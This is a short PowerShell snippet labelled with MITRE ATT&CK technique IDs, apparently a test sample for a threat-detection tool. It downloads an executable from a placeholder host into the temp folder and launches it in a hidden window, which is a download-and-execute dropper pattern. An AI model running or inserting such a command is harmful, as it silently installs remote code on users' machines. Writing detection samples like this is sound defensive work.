# expect: T1105 T1204.002
$dest = Join-Path $env:TEMP 'setup.exe'
Invoke-WebRequest -Uri 'http://files.example.net/setup.exe' -OutFile $dest
Start-Process -FilePath $dest -WindowStyle Hidden
